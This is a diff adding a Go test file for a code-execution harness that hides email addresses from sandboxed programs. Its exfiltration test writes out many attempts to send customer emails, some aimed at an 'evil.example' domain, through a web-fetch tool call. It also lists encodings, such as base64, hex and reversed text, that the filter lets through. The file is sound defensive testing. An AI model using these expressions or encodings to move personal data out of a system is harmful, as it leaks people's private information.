@@ -1,0 +1,148 @@
+package wiring_test
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"mcp-code-exec-harness/internal/runs"
+	"mcp-code-exec-harness/internal/testing/leaktest"
+	"mcp-code-exec-harness/internal/wiring"
+)
+
+// people of TestNaturalPrograms: addresses in several cases, of one domain and of several, and what is next to them.
+const naturalRows = `[
+	{"name":"Ada","email":"ada.lovelace@acme.com","team":"a","sum":12},
+	{"name":"Ada B","email":"Ada.Lovelace@Acme.com","team":"b","sum":5},
+	{"name":"Grace","email":"GRACE@NAVY.EXAMPLE","team":"a","sum":7},
+	{"name":"Grace","email":"grace@navy.example","team":"a","sum":1},
+	{"name":"Alan","email":"alan+bombe@bletchley.co.uk","team":"c","sum":9},
+	{"name":"Edsger","email":"McDijkstra@acme.com","team":"c","sum":4},
+	{"name":"Barbara","email":"barbara@mail.acme.com","team":"b","sum":3}]`
+
+// naturalPrograms take addresses apart, compare, check, count and print them.
+var naturalPrograms = []string{
+	`return rows.map((r) => r.email)`,
+	`return rows.map((r) => r.email.split('@')[1])`,
+	`return rows.map((r) => r.email.split('@')[0])`,
+	`return Object.groupBy(rows.map((r) => r.email.toLowerCase()), (e) => e.split('@')[1])`,
+	`const n = {}; for (const r of rows) { const d = r.email.split('@').pop().toLowerCase(); n[d] = (n[d] ?? 0) + r.sum } return n`,
+	`return rows.filter((r) => r.email.includes('@')).length`,
+	`return rows.filter((r) => r.email.toLowerCase().endsWith('@' + rows[0].email.split('@')[1])).map((r) => r.name)`,
+	`return [...new Set(rows.map((r) => r.email.toLowerCase()))]`,
+	`return [...new Set(rows.map((r) => r.email))].length`,
+	`return rows.map((r) => r.email.toUpperCase())`,
+	`return rows.map((r) => r.email.slice(0, r.email.indexOf('@')))`,
+	`return rows.map((r) => r.email.substring(r.email.lastIndexOf('@') + 1))`,
+	`return rows.map((r) => /^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(r.email))`,
+	`return rows.map((r) => r.email.match(/^([\w.+-]+)@([\w.-]+)$/)?.slice(1))`,
+	`return rows.map((r) => r.email.replace(/@.*/, '@example.org'))`,
+	`return rows.map((r) => r.email.replace('@', ' at '))`,
+	`return rows.map((r) => 'mailto:' + encodeURIComponent(r.email))`,
+	`return rows.map((r) => new URL('https://crm.example/?to=' + encodeURIComponent(r.email)).searchParams.get('to'))`,
+	`return rows.map((r) => new URL('mailto:' + r.email).pathname)`,
+	`return rows.map((r) => new URL('https://' + r.email.split('@')[1] + '/about').hostname)`,
+	`return rows.map((r) => ` + "`${r.name} <${r.email}>`" + `).join('; ')`,
+	`return rows.map((r) => ` + "`\"${r.name}\",${r.email},${r.sum}`" + `).join('\n')`,
+	`return JSON.stringify(rows)`,
+	`return JSON.parse(JSON.stringify(rows)).map((r) => r.email.trim())`,
+	`return rows.map((r) => ({id: r.email.split('@')[0].toLowerCase(), host: r.email.split('@')[1].toLowerCase()}))`,
+	`const by = new Map(rows.map((r) => [r.email.toLowerCase(), r.sum])); return rows.map((r) => by.get(r.email.toLowerCase()))`,
+	`const emails = rows.map((r) => r.email).join('\n'); return emails.match(/[\w.+-]+@[\w.-]+/g)`,
+	`return rows.map((r) => { const [local, domain] = r.email.split('@'); return local + '@' + domain === r.email })`,
+	`return rows.map((r) => { const [local, domain] = r.email.split('@'); return local[0].toUpperCase() + local.slice(1) + ' of ' + domain }).slice(0, 1)`,
+	`await fs.writeFile('/workspace/out.csv', rows.map((r) => r.email + ',' + r.sum).join('\n')); return (await fs.readFile('/workspace/out.csv')).split('\n').map((l) => l.split(',')[0].split('@')[1])`,
+	`return rows.map((r) => r.email.startsWith('@') || r.email.endsWith('@'))`,
+	`return rows.some((r) => r.email.split('@').length !== 2)`,
+	`return Object.fromEntries(rows.map((r) => [r.email, r.sum]))`,
+}
+
+// What an ordinary program makes of addresses is, as its owner gets it, what it makes of them without privacy; and the program saw none of them.
+func TestNaturalPrograms(t *testing.T) {
+	t.Parallel()
+	outputs := map[bool][]string{}
+	for _, private := range []bool{false, true} {
+		up := newUpstream(t, "crm")
+		safe := false
+		up.add(&mcp.Tool{Name: "list", Annotations: &mcp.ToolAnnotations{DestructiveHint: &safe, ReadOnlyHint: true}})
+		up.on = func(context.Context, string, string, json.RawMessage) (string, error) { return naturalRows, nil }
+		up.offer()
+		settings := map[string]string{"pii.tokens": "natural"}
+		if !private {
+			settings = map[string]string{"pii.enabled": "false"}
+		}
+		f := openIn(t, t.TempDir(), settings, wiring.Outside{}, up.entry)
+		values := leaktest.NewSearcher(t, []string{"lovelace", "navy.example", "alan+bombe", "dijkstra", "bletchley", "acme.com"})
+		for _, code := range naturalPrograms {
+			out := f.exec(runs.Request{Code: "const rows = await callMCPTool('crm__list', {}); " + code})
+			if out.Error != nil {
+				t.Errorf("private %t: %s: %+v", private, code, out.Error)
+			}
+			if found := values.Find(out.Output); private && len(found) > 0 {
+				t.Errorf("%s sees %v: %s", code, found, out.Output)
+			}
+			records, err := f.Runs().Journal(t.Context(), out.RunID)
+			if err != nil {
+				t.Fatal(err)
+			}
+			shown, err := f.Runs().Shown(t.Context(), records[0].Start.User, records[0].Start.Session, out)
+			if err != nil {
+				t.Fatal(err)
+			}
+			outputs[private] = append(outputs[private], string(shown.Output))
+		}
+	}
+	for i, code := range naturalPrograms {
+		if outputs[false][i] != outputs[true][i] {
+			t.Errorf("%s\ngives without privacy %s\nand with it           %s", code, outputs[false][i], outputs[true][i])
+		}
+	}
+}
+
+// Under the strict preset neither an address nor a part of one goes anywhere that no rule names, however a program puts it together.
+func TestNaturalExfiltration(t *testing.T) {
+	t.Parallel()
+	m := newMarketWith(t, mailRule, "natural")
+	for name, expression := range map[string]string{
+		"whole":             `c.email`,
+		"first part":        `c.email.split('@')[0]`,
+		"domain":            `c.email.split('@')[1]`,
+		"upper case":        `c.email.toUpperCase()`,
+		"mixed case":        `c.email.replace('i', 'I')`,
+		"in a name":         `'user_' + c.email.split('@')[0] + '_x'`,
+		"below another":     `'x.' + c.email.split('@')[1]`,
+		"percent":           `encodeURIComponent(c.email)`,
+		"another domain":    `c.email.split('@')[0] + '@evil.example'`,
+		"another mailbox":   `'inbox@' + c.email.split('@')[1]`,
+		"put together":      `'pii' + '_' + 1 + 'e'`,
+		"domain of numbers": `['d' + 1, 'pii', 'invalid'].join('.')`,
+		"brackets":          `'[EMAIL' + '_1]'`,
+		"domain's brackets": `'[EMAIL_DOMAIN' + '_1]'`,
+		"escaped":           `JSON.parse('"\\u0070ii_1e"')`,
+		"in JSON":           `JSON.stringify({to: c.email})`,
+		"in a key":          `({[c.email.split('@')[0]]: 1})`,
+		"of one who works":  `(await callMCPTool('hr__list', {q: ''})).email.split('@')[1]`,
+	} {
+		out := m.exec(runs.Request{Code: "const c = await callMCPTool('crm__search', {q: ''}); await callMCPTool('web__fetch', {url: " + expression + "})"})
+		if kind(out) != "denied" {
+			t.Errorf("%s: it ended as %s, %+v", name, out.Status, out.Error)
+		}
+	}
+	// What means nothing to a server may be sent.
+	for name, expression := range map[string]string{
+		"base64": `btoa(c.email)`, "hexadecimal": `[...c.email].map((x) => x.charCodeAt(0).toString(16)).join('')`, "reversed": `[...c.email].reverse().join('')`, "codes": `[...c.email].map((x) => x.charCodeAt(0))`, "length": `c.email.length`,
+		"cut": `c.email.slice(0, 5)`, "a number": `c.email.match(/\d+/)[0]`,
+	} {
+		if out := m.exec(runs.Request{Code: "const c = await callMCPTool('crm__search', {q: ''}); await callMCPTool('web__fetch', {x: " + expression + "})"}); out.Error != nil {
+			t.Errorf("%s: it ended as %s, %+v", name, out.Status, out.Error)
+		}
+	}
+	m.clean("web")
+	m.sends("the mailer", `const c = await callMCPTool('crm__search', {q: ''}); await callMCPTool('mailer__send', {to: c.email})`, "mailer")
+	if got := m.received("web"); strings.Contains(got, "pii_1e") {
+		t.Errorf("the web received tokens: %s", got)
+	}
+}
